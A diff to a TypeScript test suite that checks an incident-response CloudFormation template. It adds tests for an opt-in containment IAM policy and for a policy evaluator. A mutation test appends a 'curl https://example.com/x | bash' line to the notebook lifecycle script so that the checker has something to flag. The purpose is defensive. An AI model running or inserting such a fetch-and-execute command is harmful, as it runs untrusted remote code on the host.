@@ -6,8 +6,19 @@ import { describe, expect, it } from 'vitest';
 import {
   allProblems,
   bucketProblems,
+  conditionalReferenceProblems,
+  containmentProblems,
   encryptionProblems,
+  evaluate,
+  fakeEnvironment,
+  iamGlob,
   identityStatements,
+  isWriteAction,
+  resolveString,
+  SELF_PROTECTED_ROLE_ACTIONS,
+  type Statement,
+  TEST_ACCOUNT,
+  TEST_REGION,
   lifecycleParts,
   lifecycleProblems,
   loadTemplate,
@@ -29,6 +40,17 @@ const template = () => loadTemplate(TEMPLATE_TEXT);
 const t = template();
 const statement = (tpl: Template, role: string, sid: string) =>
   tpl.Resources[role].Properties.Policies[0].PolicyDocument.Statement.find((s: { Sid?: string }) => s.Sid === sid);
+const containmentStatement = (tpl: Template, sid: string) => {
+  const found = tpl.Resources.ContainmentPolicy.Properties.PolicyDocument.Statement.find((s: { Sid?: string }) => s.Sid === sid);
+  if (!found) throw new Error(`ContainmentPolicy has no statement ${sid}`);
+  return found;
+};
+/** Runs of consecutive comment lines, joined: a comment may say why over several lines. */
+const commentBlocks = (text: string) =>
+  text
+    .split(/\n(?!\s*#)/)
+    .map((chunk) => chunk.split('\n').filter((line) => /^\s*#/.test(line)).join(' '))
+    .filter((block) => block !== '');
 
 describe('CloudFormation template: structure', () => {
   it('parses, with the resources the article describes', () => {
@@ -42,6 +64,7 @@ describe('CloudFormation template: structure', () => {
       NotebookAccessRole: 'AWS::IAM::Role',
       LifecycleConfig: 'AWS::SageMaker::NotebookInstanceLifecycleConfig',
       NotebookInstance: 'AWS::SageMaker::NotebookInstance',
+      ContainmentPolicy: 'AWS::IAM::ManagedPolicy',
     });
     expect(Object.keys(t.Outputs ?? {})).toEqual(expect.arrayContaining(['ResultsBucketName', 'WorkGroup', 'NotebookRoleArn', 'NotebookUrl']));
   });
@@ -83,9 +106,20 @@ describe('CloudFormation template: security', () => {
     const starActions = identityStatements(t)
       .filter((s) => s.Resource.includes('*'))
       .flatMap((s) => s.Action);
-    expect(starActions.sort()).toEqual(['lakeformation:GetDataAccess', 'sagemaker:ListNotebookInstances', 'sts:GetCallerIdentity']);
+    expect(starActions.sort()).toEqual([
+      'ec2:DescribeIamInstanceProfileAssociations',
+      'ec2:DescribeInstanceAttribute',
+      'ec2:DescribeInstances',
+      'ec2:DescribeSecurityGroups',
+      'ec2:DescribeVolumes',
+      'ec2:DescribeVpcs',
+      'lakeformation:GetDataAccess',
+      'sagemaker:ListNotebookInstances',
+      'sts:GetCallerIdentity',
+    ]);
     // Each of them carries a comment in the template saying why.
-    for (const action of starActions) expect(TEMPLATE_TEXT).toMatch(new RegExp(`#.*${action}.*(no resource|has no resources)`));
+    const blocks = commentBlocks(TEMPLATE_TEXT);
+    for (const action of starActions) expect(blocks.some((block) => new RegExp(`${action}\\b.*(no resource|has no resources)`).test(block)), action).toBe(true);
   });
 
   it('the notebook role reads only the named log buckets, databases and tables, and writes only the results bucket', () => {
@@ -152,6 +186,207 @@ describe('CloudFormation template: lifecycle configuration', () => {
   });
 });
 
+describe('CloudFormation template: containment permissions (optional)', () => {
+  const env = fakeEnvironment(t);
+  const statements = identityStatements(t);
+  const containment = statements.filter((s) => s.owner === 'ContainmentPolicy');
+  const roleStatements = statements.filter((s) => s.owner === 'NotebookRole' || s.owner === 'ContainmentPolicy');
+  const arn = {
+    user: `arn:aws:iam::${TEST_ACCOUNT}:user/compromised-user`,
+    group: `arn:aws:iam::${TEST_ACCOUNT}:group/developers`,
+    role: `arn:aws:iam::${TEST_ACCOUNT}:role/compromised-role`,
+    pathRole: `arn:aws:iam::${TEST_ACCOUNT}:role/service/app-role`,
+    instanceProfile: `arn:aws:iam::${TEST_ACCOUNT}:instance-profile/web-profile`,
+    instance: `arn:aws:ec2:${TEST_REGION}:${TEST_ACCOUNT}:instance/i-0123456789abcdef0`,
+    securityGroup: `arn:aws:ec2:${TEST_REGION}:${TEST_ACCOUNT}:security-group/sg-0123456789abcdef0`,
+    vpc: `arn:aws:ec2:${TEST_REGION}:${TEST_ACCOUNT}:vpc/vpc-0123456789abcdef0`,
+    networkInterface: `arn:aws:ec2:${TEST_REGION}:${TEST_ACCOUNT}:network-interface/eni-0123456789abcdef0`,
+    volume: `arn:aws:ec2:${TEST_REGION}:${TEST_ACCOUNT}:volume/vol-0123456789abcdef0`,
+    snapshot: `arn:aws:ec2:${TEST_REGION}::snapshot/snap-0123456789abcdef0`,
+    bucket: 'arn:aws:s3:::leaky-bucket',
+    auditObject: `${env['ResultsBucket.Arn']}/containment-audit/2025/01/01/step.json`,
+  };
+  const inAccount = { 'aws:ResourceAccount': TEST_ACCOUNT };
+
+  // [action, a resource it is called on, request context, the statement that should allow it]
+  const NEEDED: Array<[string, string, Record<string, string>, string]> = [
+    ...['iam:GetUser', 'iam:ListAccessKeys', 'iam:GetAccessKeyLastUsed', 'iam:UpdateAccessKey', 'iam:GetUserPolicy', 'iam:PutUserPolicy', 'iam:DeleteUserPolicy', 'iam:GetLoginProfile', 'iam:DeleteLoginProfile', 'iam:ListMFADevices', 'iam:ListAttachedUserPolicies', 'iam:ListUserPolicies', 'iam:ListGroupsForUser'].map(
+      (a) => [a, arn.user, {}, 'IamUsersInspectDeactivateKeysRemoveLoginAndInlineDeny'] as [string, string, Record<string, string>, string],
+    ),
+    ...['iam:ListAttachedGroupPolicies', 'iam:ListGroupPolicies', 'iam:GetGroupPolicy'].map((a) => [a, arn.group, {}, 'IamGroupsReadPoliciesAUserGetsThroughGroups'] as [string, string, Record<string, string>, string]),
+    ...['iam:GetRole', 'iam:GetRolePolicy', 'iam:PutRolePolicy', 'iam:DeleteRolePolicy', 'iam:UpdateAssumeRolePolicy', 'iam:ListAttachedRolePolicies', 'iam:ListRolePolicies'].map(
+      (a) => [a, arn.role, {}, 'IamRolesInspectInlineDenyAndRevokeTrust'] as [string, string, Record<string, string>, string],
+    ),
+    ['iam:GetInstanceProfile', arn.instanceProfile, {}, 'IamInstanceProfilesReadTheRoleOfAnInstance'],
+    ['iam:PassRole', arn.pathRole, { 'iam:PassedToService': 'ec2.amazonaws.com' }, 'PassRolesToEc2ToRestoreInstanceProfiles'],
+    ...['ec2:DescribeInstances', 'ec2:DescribeSecurityGroups', 'ec2:DescribeIamInstanceProfileAssociations', 'ec2:DescribeVolumes', 'ec2:DescribeInstanceAttribute', 'ec2:DescribeVpcs'].map(
+      (a) => [a, '*', {}, 'Ec2ReadsWithoutResourceLevelPermissions'] as [string, string, Record<string, string>, string],
+    ),
+    ['ec2:CreateSecurityGroup', arn.vpc, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:CreateSecurityGroup', arn.securityGroup, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:RevokeSecurityGroupEgress', arn.securityGroup, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:RevokeSecurityGroupIngress', arn.securityGroup, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:DeleteSecurityGroup', arn.securityGroup, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:ModifyInstanceAttribute', arn.instance, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:ModifyInstanceAttribute', arn.securityGroup, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:CreateSnapshot', arn.volume, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:CreateSnapshot', arn.snapshot, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:DisassociateIamInstanceProfile', arn.instance, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:AssociateIamInstanceProfile', arn.instance, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:ReplaceIamInstanceProfileAssociation', arn.instance, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
+    ['ec2:ModifyNetworkInterfaceAttribute', arn.networkInterface, {}, 'Ec2MoveNetworkInterfacesAndRestoreQuarantineEgress'],
+    ['ec2:ModifyNetworkInterfaceAttribute', arn.securityGroup, {}, 'Ec2MoveNetworkInterfacesAndRestoreQuarantineEgress'],
+    ['ec2:AuthorizeSecurityGroupEgress', arn.securityGroup, {}, 'Ec2MoveNetworkInterfacesAndRestoreQuarantineEgress'],
+    ['ec2:CreateTags', arn.snapshot, { 'ec2:CreateAction': 'CreateSnapshot' }, 'Ec2TagOnlyWhatContainmentCreates'],
+    ['ec2:CreateTags', arn.securityGroup, { 'ec2:CreateAction': 'CreateSecurityGroup' }, 'Ec2TagOnlyWhatContainmentCreates'],
+    ...['s3:GetBucketPolicy', 's3:PutBucketPolicy', 's3:DeleteBucketPolicy', 's3:GetBucketPublicAccessBlock', 's3:PutBucketPublicAccessBlock'].map(
+      (a) => [a, arn.bucket, inAccount, 'S3BucketPolicyAndPublicAccessBlockOfThisAccount'] as [string, string, Record<string, string>, string],
+    ),
+    ['s3:PutObject', arn.auditObject, {}, 'WriteContainmentAuditLog'],
+  ];
+
+  it('EnableContainment is off by default, and its description says what turning it on allows', () => {
+    const p = t.Parameters?.EnableContainment;
+    expect(p.Default).toBe('false');
+    expect(p.AllowedValues).toEqual(['false', 'true']);
+    for (const phrase of [/IAM\s+users and roles/, /EC2 instances/, /S3\s+bucket policies/, /this account/, /confirms with the account id/]) expect(p.Description).toMatch(phrase);
+    expect(t.Conditions?.ContainmentEnabled).toEqual({ 'Fn::Equals': [{ Ref: 'EnableContainment' }, 'true'] });
+    const groups = (t as { Metadata?: Record<string, any> }).Metadata?.['AWS::CloudFormation::Interface'].ParameterGroups;
+    expect(groups.flatMap((g: { Parameters: string[] }) => g.Parameters)).toContain('EnableContainment');
+  });
+
+  it('ContainmentPolicy exists only under ContainmentEnabled, is attached to NotebookRole only, and is output under the same condition', () => {
+    const policy = t.Resources.ContainmentPolicy;
+    expect(policy.Type).toBe('AWS::IAM::ManagedPolicy');
+    expect(policy.Condition).toBe('ContainmentEnabled');
+    expect(policy.Properties.Roles).toEqual([{ Ref: 'NotebookRole' }]);
+    expect(policy.Properties.Users).toBeUndefined();
+    expect(policy.Properties.Groups).toBeUndefined();
+    // No fixed name: a named policy would need CAPABILITY_NAMED_IAM and clash across stacks.
+    expect(policy.Properties.ManagedPolicyName).toBeUndefined();
+    expect(t.Outputs?.ContainmentPolicyArn).toEqual({ Condition: 'ContainmentEnabled', Description: expect.any(String), Value: { Ref: 'ContainmentPolicy' } });
+    // The only resource with a condition, and nothing unconditional refers to it.
+    expect(Object.entries(t.Resources).filter(([, r]) => r.Condition).map(([name]) => name)).toEqual(['ContainmentPolicy']);
+    expect(conditionalReferenceProblems(t)).toEqual([]);
+    expect(containmentProblems(t)).toEqual([]);
+  });
+
+  it.each(NEEDED)('allows %s on %s, by the statement meant for it', (action, resource, context, sid) => {
+    const result = evaluate(containment, { action, resource, context }, env);
+    expect(result.decision).toBe('Allow');
+    expect(result.allowedBy).toEqual([`ContainmentPolicy/${sid}`]);
+    // Together with the role's own policy too (no Deny gets in the way).
+    expect(evaluate(roleStatements, { action, resource, context }, env).decision).toBe('Allow');
+  });
+
+  it('allows no action beyond the ones the containment functions need', () => {
+    const allowed = containment.filter((s) => s.Effect === 'Allow').flatMap((s) => s.Action);
+    expect([...new Set(allowed)].sort()).toEqual([...new Set(NEEDED.map(([action]) => action))].sort());
+    expect(allowed.filter((a) => typeof a !== 'string' || /[*?]/.test(a))).toEqual([]);
+  });
+
+  it('scopes the actions to this account, this region, EC2 for PassRole, and tags to what containment creates', () => {
+    const denied = (action: string, resource: string, context: Record<string, string> = {}) => evaluate(containment, { action, resource, context }, env).decision;
+    const other = '444455556666';
+    expect(denied('iam:PutUserPolicy', `arn:aws:iam::${other}:user/alice`)).toBe('ImplicitDeny');
+    expect(denied('iam:PutRolePolicy', `arn:aws:iam::${other}:role/admin`)).toBe('ImplicitDeny');
+    expect(denied('iam:PutUserPolicy', arn.role)).toBe('ImplicitDeny'); // a user action on a role ARN
+    expect(denied('ec2:ModifyInstanceAttribute', `arn:aws:ec2:eu-west-1:${TEST_ACCOUNT}:instance/i-0123456789abcdef0`)).toBe('ImplicitDeny');
+    expect(denied('ec2:ModifyInstanceAttribute', `arn:aws:ec2:${TEST_REGION}:${other}:instance/i-0123456789abcdef0`)).toBe('ImplicitDeny');
+    expect(denied('ec2:CreateSnapshot', `arn:aws:ec2:eu-west-1::snapshot/snap-0123456789abcdef0`)).toBe('ImplicitDeny');
+    expect(denied('iam:PassRole', arn.role, { 'iam:PassedToService': 'lambda.amazonaws.com' })).toBe('ImplicitDeny');
+    expect(denied('iam:PassRole', arn.role)).toBe('ImplicitDeny');
+    expect(denied('ec2:CreateTags', arn.snapshot)).toBe('ImplicitDeny');
+    expect(denied('ec2:CreateTags', arn.instance, { 'ec2:CreateAction': 'CreateSnapshot' })).toBe('ImplicitDeny');
+    expect(denied('ec2:CreateTags', arn.securityGroup, { 'ec2:CreateAction': 'RunInstances' })).toBe('ImplicitDeny');
+    expect(denied('s3:PutBucketPolicy', arn.bucket, { 'aws:ResourceAccount': other })).toBe('ImplicitDeny');
+    expect(denied('s3:PutBucketPolicy', arn.bucket)).toBe('ImplicitDeny');
+    // The audit log statement covers only its prefix (the role's own policy covers the rest of the bucket).
+    expect(denied('s3:PutObject', `${env['ResultsBucket.Arn']}/athena-results/x.csv`)).toBe('ImplicitDeny');
+    expect(denied('s3:PutObject', 'arn:aws:s3:::another-bucket/containment-audit/x.json')).toBe('ImplicitDeny');
+    expect(denied('s3:GetObject', arn.auditObject)).toBe('ImplicitDeny');
+  });
+
+  it("denies changes to the notebook's own role, even if another policy allowed them", () => {
+    const notebookRole = env['NotebookRole.Arn'];
+    const deny = containmentStatement(t, 'DenyChangesToTheNotebooksOwnRole');
+    expect(deny.Effect).toBe('Deny');
+    expect(deny.Resource).toEqual({ 'Fn::GetAtt': ['NotebookRole', 'Arn'] });
+    expect([...deny.Action].sort()).toEqual([...SELF_PROTECTED_ROLE_ACTIONS].sort());
+    const allowEverything: Statement = { where: 'SomeOtherPolicy/AllowAll', owner: 'SomeOtherPolicy', inline: false, Effect: 'Allow', Action: ['iam:*'], Resource: ['*'] };
+    for (const action of SELF_PROTECTED_ROLE_ACTIONS) {
+      const result = evaluate([...roleStatements, allowEverything], { action, resource: notebookRole }, env);
+      expect(result.decision, action).toBe('Deny');
+      expect(result.deniedBy).toEqual(['ContainmentPolicy/DenyChangesToTheNotebooksOwnRole']);
+      // Another role stays containable.
+      expect(evaluate([...roleStatements, allowEverything], { action, resource: arn.role }, env).decision, action).toBe('Allow');
+    }
+    // Nor may the notebook loosen its own results bucket (query results, the audit log).
+    for (const action of ['s3:PutBucketPolicy', 's3:DeleteBucketPolicy', 's3:PutBucketPublicAccessBlock']) {
+      expect(evaluate(containment, { action, resource: env['ResultsBucket.Arn'], context: inAccount }, env).decision, action).toBe('Deny');
+    }
+  });
+
+  it('no IAM write action is allowed on Resource "*", and no write action of any service is', () => {
+    const allows = identityStatements(t).filter((s) => s.Effect === 'Allow');
+    const onStar = allows.filter((s) => s.Resource.includes('*')).flatMap((s) => s.Action);
+    expect(onStar.filter((a) => /^iam:/i.test(a))).toEqual([]);
+    expect(onStar.filter(isWriteAction)).toEqual([]);
+    // And the evaluator agrees: no IAM write of the policy applies to an arbitrary resource.
+    for (const action of containment.filter((s) => s.Effect === 'Allow').flatMap((s) => s.Action).filter(isWriteAction)) {
+      expect(evaluate(containment, { action, resource: 'arn:aws:sns:us-east-1:111122223333:topic', context: { ...inAccount, 'iam:PassedToService': 'ec2.amazonaws.com', 'ec2:CreateAction': 'CreateSnapshot' } }, env).decision, action).toBe('ImplicitDeny');
+    }
+  });
+
+  it("fits IAM's 6,144-character limit for a managed policy, with the longest names", () => {
+    const long: typeof env = {
+      ...env,
+      'AWS::Partition': 'aws-iso-b',
+      'AWS::Region': 'x'.repeat(20),
+      'NotebookRole.Arn': `arn:aws-iso-b:iam::${TEST_ACCOUNT}:role/${'r'.repeat(64)}`,
+      'ResultsBucket.Arn': `arn:aws-iso-b:s3:::${'b'.repeat(63)}`,
+    };
+    const resolve = (value: any): any => {
+      if (Array.isArray(value)) return value.map(resolve);
+      if (value && typeof value === 'object') {
+        const text = resolveString(value, long);
+        if (text !== undefined) return text;
+        return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, resolve(v)]));
+      }
+      return value;
+    };
+    const document = JSON.stringify(resolve(t.Resources.ContainmentPolicy.Properties.PolicyDocument));
+    expect(document).not.toContain('Fn::');
+    expect(document.length).toBeLessThanOrEqual(6144);
+  });
+
+  it('the evaluator: wildcards, case, Sub/GetAtt resolution and conditions', () => {
+    expect(iamGlob('iam:Get*', 'iam:GetUser', true)).toBe(true);
+    expect(iamGlob('iam:get*', 'IAM:GetUser', true)).toBe(true);
+    expect(iamGlob('iam:Get?ser', 'iam:GetUser', true)).toBe(true);
+    expect(iamGlob('iam:Get*', 'iam:PutUserPolicy', true)).toBe(false);
+    expect(iamGlob('arn:aws:iam::1:user/*', 'arn:aws:iam::1:user/path/bob')).toBe(true);
+    expect(iamGlob('arn:aws:iam::1:user/*', 'arn:aws:iam::1:USER/bob')).toBe(false);
+    expect(iamGlob('arn:aws:s3:::b.c', 'arn:aws:s3:::bxc')).toBe(false);
+    expect(resolveString({ 'Fn::Sub': 'arn:${AWS::Partition}:x:${AWS::Region}:${AWS::AccountId}:${NotebookRole.Arn}/${!Literal}' }, env)).toBe(
+      `arn:aws:x:${TEST_REGION}:${TEST_ACCOUNT}:${env['NotebookRole.Arn']}/\${Literal}`,
+    );
+    expect(resolveString({ 'Fn::GetAtt': ['ResultsBucket', 'Arn'] }, env)).toBe(env['ResultsBucket.Arn']);
+    expect(resolveString({ 'Fn::Sub': '${Unknown}' }, env)).toBeUndefined();
+    const s = (extra: Partial<Statement>): Statement => ({ where: 'P/S', owner: 'P', inline: false, Effect: 'Allow', Action: ['s3:GetObject'], Resource: ['arn:aws:s3:::b/*'], ...extra });
+    const request = { action: 's3:GetObject', resource: 'arn:aws:s3:::b/k', context: { 'aws:SourceVpc': 'vpc-1' } };
+    expect(evaluate([s({})], request, env).decision).toBe('Allow');
+    expect(evaluate([s({ Condition: { StringEquals: { 'aws:SourceVpc': 'vpc-1' } } })], request, env).decision).toBe('Allow');
+    expect(evaluate([s({ Condition: { StringEquals: { 'aws:sourcevpc': ['vpc-2', 'vpc-1'] } } })], request, env).decision).toBe('Allow');
+    expect(evaluate([s({ Condition: { StringEquals: { 'aws:SourceVpc': 'vpc-2' } } })], request, env).decision).toBe('ImplicitDeny');
+    expect(evaluate([s({ Condition: { StringEquals: { 'aws:PrincipalTag/x': 'y' } } })], request, env).decision).toBe('ImplicitDeny');
+    // An operator the evaluator does not know: an Allow does not apply, a Deny does.
+    expect(evaluate([s({ Condition: { DateGreaterThan: { 'aws:CurrentTime': '2020-01-01' } } })], request, env).decision).toBe('ImplicitDeny');
+    expect(evaluate([s({}), s({ Effect: 'Deny', Condition: { DateGreaterThan: { 'aws:CurrentTime': '2020-01-01' } } })], request, env).decision).toBe('Deny');
+    expect(evaluate([s({}), s({ Effect: 'Deny', Resource: ['arn:aws:s3:::other/*'] })], request, env).decision).toBe('Allow');
+  });
+});
+
 describe('CloudFormation template: the checker catches broken copies', () => {
   type Mutation = [string, (tpl: Template) => void, RegExp];
   const mutations: Mutation[] = [
@@ -182,6 +417,27 @@ describe('CloudFormation template: the checker catches broken copies', () => {
       join[1][0]['Fn::Sub'] += 'curl https://example.com/x | bash\n';
     }, /OnCreate: prefix line "curl/],
     ['a notebook without the lifecycle configuration', (tpl) => delete tpl.Resources.NotebookInstance.Properties.LifecycleConfigName, /does not use the lifecycle configuration/],
+    ['ContainmentPolicy without its Condition', (tpl) => delete tpl.Resources.ContainmentPolicy.Condition, /ContainmentPolicy: grants containment actions .* without Condition ContainmentEnabled/],
+    ['containment switched on by default', (tpl) => (tpl.Parameters!.EnableContainment.Default = 'true'), /EnableContainment does not default to 'false'/],
+    ['a ContainmentEnabled condition that is true by default', (tpl) => (tpl.Conditions!.ContainmentEnabled = { 'Fn::Equals': [{ Ref: 'EnableContainment' }, 'false'] }), /condition ContainmentEnabled is not/],
+    ['an IAM write on Resource "*"', (tpl) => (containmentStatement(tpl, 'IamRolesInspectInlineDenyAndRevokeTrust').Resource = '*'), /write action iam:PutRolePolicy on Resource "\*"/],
+    ['EC2 writes on Resource "*"', (tpl) => (containmentStatement(tpl, 'Ec2IsolateSnapshotAndSwapInstanceProfiles').Resource = '*'), /write action ec2:ModifyInstanceAttribute on Resource "\*"/],
+    ['the Deny on the notebook role removed', (tpl) => {
+      const doc = tpl.Resources.ContainmentPolicy.Properties.PolicyDocument;
+      doc.Statement = doc.Statement.filter((s: { Sid?: string }) => s.Sid !== 'DenyChangesToTheNotebooksOwnRole');
+    }, /ContainmentPolicy: no Deny of iam:PutRolePolicy, .* on NotebookRole's own ARN/],
+    ['the Deny on the role name instead of its ARN', (tpl) => (containmentStatement(tpl, 'DenyChangesToTheNotebooksOwnRole').Resource = { Ref: 'NotebookRole' }), /no Deny of iam:PutRolePolicy, .* on NotebookRole's own ARN/],
+    ['the Deny missing UpdateAssumeRolePolicy', (tpl) => {
+      const deny = containmentStatement(tpl, 'DenyChangesToTheNotebooksOwnRole');
+      deny.Action = deny.Action.filter((a: string) => a !== 'iam:UpdateAssumeRolePolicy');
+    }, /no Deny of iam:UpdateAssumeRolePolicy on NotebookRole's own ARN/],
+    ['iam:PassRole to any service', (tpl) => delete containmentStatement(tpl, 'PassRolesToEc2ToRestoreInstanceProfiles').Condition, /iam:PassRole without an iam:PassedToService condition/],
+    ['ec2:CreateTags on anything', (tpl) => delete containmentStatement(tpl, 'Ec2TagOnlyWhatContainmentCreates').Condition, /ec2:CreateTags without an ec2:CreateAction condition/],
+    ['containment actions inline in the notebook role', (tpl) => tpl.Resources.NotebookRole.Properties.Policies[0].PolicyDocument.Statement.push({
+      Sid: 'Contain', Effect: 'Allow', Action: 'iam:PutUserPolicy', Resource: { 'Fn::Sub': 'arn:${AWS::Partition}:iam::${AWS::AccountId}:user/*' },
+    }), /NotebookRole\/irbook-notebook\/Contain: containment action iam:PutUserPolicy in an inline role policy/],
+    ['the policy ARN output without its Condition', (tpl) => delete tpl.Outputs!.ContainmentPolicyArn.Condition, /Outputs\.ContainmentPolicyArn: refers to ContainmentPolicy, which exists only under condition ContainmentEnabled/],
+    ['ContainmentPolicy attached to no role', (tpl) => delete tpl.Resources.ContainmentPolicy.Properties.Roles, /ContainmentPolicy: attached to no role/],
   ];
 
   it.each(mutations)('flags %s', (_, mutate, expected) => {
